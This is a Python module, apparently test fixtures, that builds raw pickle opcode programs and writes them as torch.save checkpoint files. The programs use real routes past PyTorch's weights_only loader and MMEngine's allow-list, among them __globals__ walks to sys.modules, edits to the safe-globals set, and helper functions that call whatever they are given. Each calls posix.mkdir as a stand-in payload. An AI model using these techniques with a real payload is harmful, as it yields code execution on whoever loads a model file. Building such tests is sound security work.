"""Programs of pickle's opcodes that would run something, and files of torch.save around them."""

import pickle
import zipfile

HISTORY = ("mmengine.logging.history_buffer", "HistoryBuffer")


def text(value):
    data = str(value).encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def attribute(owner, *path):
    """``getattr(getattr(owner, path[0]), path[1])`` and so on."""
    for step in path:
        owner = name("builtins", "getattr") + owner + text(step) + b"\x86R"
    return owner


def as_attributes(mapping):
    """The items of a dict as attributes of an OrderedDict: BUILD copies them."""
    return name("collections", "OrderedDict") + b")R" + mapping + b"b"


def attribute_walk(folder):
    """Makes a folder through MMEngine's own list of names for ``weights_only``.

    A function's globals lead to ``sys.modules``, and that to the list of what may be called.
    """
    scope = as_attributes(attribute(name(*HISTORY), "__init__", "__globals__"))
    modules = as_attributes(attribute(scope, "warnings", "sys", "modules"))
    mkdir = attribute(modules, "posix", "mkdir")
    allowed = attribute(modules, "torch._weights_only_unpickler", "__dict__")
    listed = text("_marked_safe_globals_set") + b"]" + b"h\x01a" + b"s"
    call = b"h\x01" + text(folder) + b"\x85R"
    return b"\x80\x02(" + mkdir + b"q\x01" + allowed + listed + call + b"t."


def methods(folder):
    """Would have a file's own function among HistoryBuffer's statistics."""
    state = b"}" + text("statistics_methods") + b"}" + text("mean") + name("posix", "mkdir") + b"ss"
    return b"\x80\x02" + name(*HISTORY) + b")\x81" + state + b"b."


def rebuild(folder):
    """PyTorch's own helper calls whatever it is given."""
    call = name("posix", "mkdir") + name("torch", "Tensor") + text(folder) + b"\x85}" + b"t"
    return b"\x80\x02" + name("torch._tensor", "_rebuild_from_type_v2") + b"(" + call + b"R."


def dotted(folder):
    """Attributes of a name that is allowed, by STACK_GLOBAL."""
    module, attribute_ = HISTORY[0].encode(), b"np.os.mkdir"
    names = b"".join(b"\x8c" + bytes([len(n)]) + n for n in (module, attribute_))
    return b"\x80\x04" + names + b"\x93" + text(folder) + b"\x85R."


PROGRAMS = {
    "attribute walk": attribute_walk,
    "a class's methods": methods,
    "a helper's function": rebuild,
    "dotted name": dotted,
    "partial": lambda folder: (
        name("functools", "partial") + name("posix", "mkdir") + text(folder) + b"\x86R)R."
    ),
    "attrgetter": lambda folder: (
        name("operator", "attrgetter") + text("__globals__") + b"\x85R" + name(*HISTORY) + b"\x85R."
    ),
    "instance": lambda folder: b"(" + text(folder) + b"iposix\nmkdir\n.",
    "object": lambda folder: b"(" + name("posix", "mkdir") + text(folder) + b"o.",
    "factory": lambda folder: (
        name("collections", "defaultdict") + name("posix", "mkdir") + b"\x85R."
    ),
    "numpy's state": lambda folder: (
        name("numpy._core.multiarray", "_reconstruct")
        + name("numpy", "ndarray")
        + b"K\x00\x85C\x01b\x87R(K\x01K\x01\x85"
        + name("numpy", "dtype")
        + text("O8")
        + b"\x89\x88\x87R\x89C\x08AAAAAAAAtb."
    ),
    "persistent id": lambda folder: text("module") + name("posix", "mkdir") + b"\x86Q.",
    "attributes of a class": lambda folder: name(*HISTORY) + b"}" + text("mean") + b"Nsb.",
}


def write(path, program, kind="zip"):
    """The program as torch.save's file (zip, or of before 1.6), or as a plain pickle."""
    if kind == "pickle":
        path.write_bytes(program)
    elif kind == "legacy":
        head = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
        first = b"".join(pickle.dumps(part, 2) for part in head)
        path.write_bytes(first + program + pickle.dumps([], 2))
    else:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", program)
            archive.writestr("archive/version", "3\n")
    return path
